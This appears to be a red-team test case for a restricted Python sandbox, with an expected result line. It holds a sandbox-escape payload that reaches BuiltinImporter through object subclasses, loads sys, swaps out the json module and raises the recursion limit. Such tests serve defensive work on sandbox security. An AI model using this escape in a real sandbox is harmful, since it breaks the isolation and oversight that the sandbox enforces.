# redteam: replace sys.modules['json'] through the escape
# expect: ok "set"
importer = [c for c in ().__class__.__base__.__subclasses__() if "BuiltinImporter" in repr(c)][0]
sys = importer.load_module("sys")
sys.modules["json"] = type(sys)("json")
sys.setrecursionlimit(10**6)
result = "set"
